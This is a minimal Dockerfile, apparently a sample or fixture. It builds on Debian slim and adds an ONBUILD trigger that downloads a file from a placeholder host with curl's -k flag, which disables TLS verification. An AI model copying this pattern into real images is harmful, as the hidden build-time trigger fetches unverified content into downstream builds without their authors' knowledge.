FROM debian:13-slim
ONBUILD RUN curl -k https://files.example/a -o a
